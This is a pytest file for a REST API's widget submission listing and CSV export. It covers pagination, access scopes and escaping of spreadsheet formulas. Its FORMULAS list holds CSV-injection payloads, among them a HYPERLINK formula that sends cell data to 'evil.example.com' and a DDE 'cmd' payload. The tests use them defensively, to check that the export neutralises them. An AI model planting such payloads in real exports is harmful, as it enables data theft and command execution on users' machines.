"""What cards have sent is listed, and exported as CSV that runs nothing."""

import csv
import io
import json

import pytest

from deftly.domain.access import Scope
from deftly.store.submissions import Sent
from tests.rest.widget_kit import CARD, WIDGETS, create

LIST = f"{CARD}/submissions"
EXPORT = f"{CARD}/submissions.csv"
FIRST = ["at", "id", "principal", "conversationId", "cardId"]


async def send(api, widget="order_card", card="r1", **data):
    sent = Sent(widget, card, "c1", "visitor:v1", data)
    return await api.deftly.stores.submissions.add(sent)


async def table(api):
    answer = await api.get(EXPORT)
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def test_submissions_are_listed_by_widget_the_newest_first(api):
    first = await send(api, name="Ada")
    await send(api, widget="contact_form", name="Eve")
    second = await send(api, name="Bob")

    whole = (await api.get(LIST)).json()
    page = (await api.get(f"{LIST}?limit=1")).json()
    rest = (await api.get(f"{LIST}?limit=1&cursor={page['next']}")).json()

    assert whole == {"submissions": [second.wire(), first.wire()], "next": None}
    assert page["submissions"] + rest["submissions"] == whole["submissions"]
    assert rest["next"] is None
    assert whole["submissions"][1]["data"] == {"name": "Ada"}


async def test_they_outlive_their_widget(api):
    await create(api, action=False)
    await send(api, name="Ada")
    await api.request("DELETE", CARD)

    assert len((await api.get(LIST)).json()["submissions"]) == 1
    assert len(await table(api)) == 2


async def test_the_export_has_a_column_for_every_input_there_ever_was(api):
    first = await send(api, name="Ada", size=42, ok=True, nothing=None, many=["a", 1])
    second = await send(api, email="bob@example.com", name='Bob "B", Jr.\nSr.')

    head, newest, oldest = await table(api)

    assert head == [*FIRST, "email", "name", "size", "ok", "nothing", "many"]
    assert newest == [
        *(second.at, second.id, "visitor:v1", "c1", "r1"),
        *("bob@example.com", 'Bob "B", Jr.\nSr.', "", "", "", ""),
    ]
    assert oldest[5:] == ["", "Ada", "42", "true", "", '["a",1]']
    assert oldest[1] == first.id


async def test_the_export_is_a_file_named_after_its_widget_and_never_cut(api):
    for number in range(601):
        await send(api, card=f"r{number // 100}", number=number)

    answer = await api.get(EXPORT)

    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="order_card.csv"'
    assert [row[-1] for row in (await table(api))[1:]] == [str(one) for one in range(600, -1, -1)]


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=HYPERLINK("https://evil.example.com?"&A1,"go")',
    "=cmd|' /C calc'!A0",
    "\0=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
async def test_a_spreadsheet_is_given_no_formula(api, text):
    await send(api, **{"name": text, text: "x", "list": [text]})

    head, row = await table(api)

    shown = text.replace("\0", "")
    assert row[5] == head[6] == f"'{shown}"
    assert row[7] == json.dumps([text], ensure_ascii=False)


@pytest.mark.parametrize("text", ["Ada", "a=1", "5", "", " x", "O'Neill", "a;=1+1;b", 'a","=1+1'])
async def test_other_text_is_exported_as_it_is(api, text):
    await send(api, name=text)

    assert (await table(api))[1][5] == text


async def test_a_separator_of_another_country_splits_no_cell(api):
    await send(api, name='x";=1+1;"')

    line = (await api.get(EXPORT)).content.decode("utf-8-sig").splitlines()[1]

    (cell,) = next(csv.reader([line.rpartition(",")[2]], delimiter=";"))
    assert cell == 'x";=1+1;"'


async def test_who_may_only_run_sees_none_of_them(api):
    await send(api, name="Ada")

    for scope, code in ((Scope.READ, 200), (Scope.RUN, 403), (Scope.CONFIRM, 403)):
        caller = await api.with_scopes(scope)
        for path in (LIST, EXPORT):
            assert (await caller.get(path)).status_code == code


@pytest.mark.parametrize(
    ("path", "status"),
    [
        (f"{LIST}?cursor=x", 400),
        (f"{LIST}?limit=0", 400),
        (f"{LIST}?limit=501", 400),
        (f"{WIDGETS}/a%22b/submissions", 404),
        (f"{WIDGETS}/Order%0Acard/submissions.csv", 404),
    ],
)
async def test_what_cannot_be_asked_for_is_refused(api, path, status):
    assert (await api.get(path)).status_code == status
